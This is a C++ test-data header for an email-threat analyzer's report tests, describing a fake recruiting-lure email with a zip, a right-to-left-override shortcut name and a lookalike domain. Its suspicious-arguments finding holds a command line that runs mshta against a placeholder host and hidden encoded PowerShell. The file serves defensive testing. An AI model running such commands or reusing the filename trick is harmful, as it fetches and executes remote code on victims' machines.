#pragma once
// Test data shared by the report tests: a filled report of the kind the DPRK recruiting lures
// produce (a Korean/Japanese subject, a zip with an RTLO-named shortcut, a remote template).
#include <string>

#include "report/report.h"

namespace lg::testing_data {

inline const std::string kSha256A(64, 'a');
inline const std::string kSha256B(64, 'b');

inline Report sample_report() {
  Report r;
  r.version = "0.1.0";
  r.input = {"채용_제안_블록체인_개발자_採用のご案内.eml", 48213, std::string(32, '0'),
             std::string(40, '1'), kSha256A};
  MessageSummary m;
  m.from = "\"Recruiter (코인베이스 채용팀)\" <hr@coinbase-careers.example>";
  m.to = "dev@exchange.example";
  m.reply_to = "talent@free-mail.example";
  m.subject =
      "[채용] 블록체인 소프트웨어 개발 계약서 및 입사지원서 안내 — 【採用】職務経歴書と業務委託"
      "契約書のご確認のお願い（至急）";
  m.date = "Tue, 14 May 2024 09:12:44 +0900";
  m.message_id = "<1234@coinbase-careers.example>";
  r.message = m;
  r.score = 38.5;
  r.verdict = Verdict::kMalicious;
  r.action = Action::kReject;
  r.elapsed_ms = 12.25;

  ObjectNode root;
  root.id = 0;
  root.relation = "input";
  root.name = r.input.name;
  root.type = "message";
  root.size = 48213;
  root.sha256 = kSha256A;
  root.facts = {{"mime_parts", FactValue(std::int64_t{3})},
                {"spf", FactValue(std::string("fail"))},
                {"free_mail_reply_to", FactValue(true)},
                {"mime_parts", FactValue(std::int64_t{4})}};  // a repeated key: last wins
  root.path = "message";
  ObjectNode zip;
  zip.id = 1;
  zip.parent = 0;
  zip.depth = 1;
  zip.relation = "attachment";
  zip.name = "Job_Description_채용공고_상세내용_및_연봉정보_2024년_하반기_최종본.zip";
  zip.declared_type = "application/zip";
  zip.type = "zip";
  zip.size = 2 * 1024 * 1024 + 5;
  zip.sha256 = kSha256B;
  zip.facts = {{"entries", FactValue(std::vector<std::string>{"cv\u202Efdp.lnk", "readme.txt"})},
               {"ratio", FactValue(1.75)}};
  zip.anomalies = {"central directory size disagrees with local headers"};
  zip.path = "message > attachment[1] Job_Description.zip";
  ObjectNode lnk = zip;
  lnk.id = 2;
  lnk.parent = 1;
  lnk.depth = 2;
  lnk.relation = "entry";
  lnk.name = "cv\u202Efdp.lnk";
  lnk.declared_type = "";
  lnk.type = "lnk";
  lnk.size = 3120;
  lnk.facts = {};
  lnk.anomalies = {};
  lnk.path = "message > attachment[1] Job_Description.zip > entry cv\u202Efdp.lnk";
  ObjectNode txt = lnk;
  txt.id = 3;
  txt.name = "readme.txt";
  txt.type = "text";
  txt.size = 120;
  txt.duplicate_of = 2;
  r.objects = {root, zip, lnk, txt};

  Finding rtlo{"FILENAME_RTLO",
               "filename",
               15,
               {"T1036.002"},
               2,
               lnk.path,
               {"cv\u202Efdp.lnk", "U+202E before 'fdp.lnk'"},
               true};
  Finding args{"LNK_SUSPICIOUS_ARGUMENTS",
               "lnk",
               10,
               {"T1204.002", "T1218.005"},
               2,
               lnk.path,
               {"/c start mshta https://coinbase-careers.example/a.hta " + std::string(300, ' ') +
                    "& powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIAA=",
                "runs mshta from a shortcut"},
               true};
  Finding repeat = rtlo;
  repeat.object_id = 1;
  repeat.counted = false;
  repeat.score = 15;
  Finding reply{"REPLY_TO_MISMATCH",
                "header",
                3.5,
                {},
                0,
                "message",
                {"talent@free-mail.example", "Reply-To differs from From"},
                true};
  r.findings = {reply, rtlo, args, repeat};

  r.observables.urls = {{"https://coinbase-careers.example/a.hta", "coinbase-careers.example",
                         "coinbase-careers.example", "", false, 2},
                        {"https://xn--80ak6aa92e.example/", "xn--80ak6aa92e.example",
                         "\u0430\u0440\u0440\u04cf\u0435.example", "apple.example", true, 0}};
  r.observables.domains = {{"coinbase-careers.example", "coinbase-careers.example", 2}};
  r.observables.emails = {{"hr@coinbase-careers.example", 0}};
  r.observables.ips = {{"203.0.113.7", 2}};
  r.limits_hit = {{"ratio", 1, "entry readme.txt expands 250x"}};
  return r;
}

}  // namespace lg::testing_data
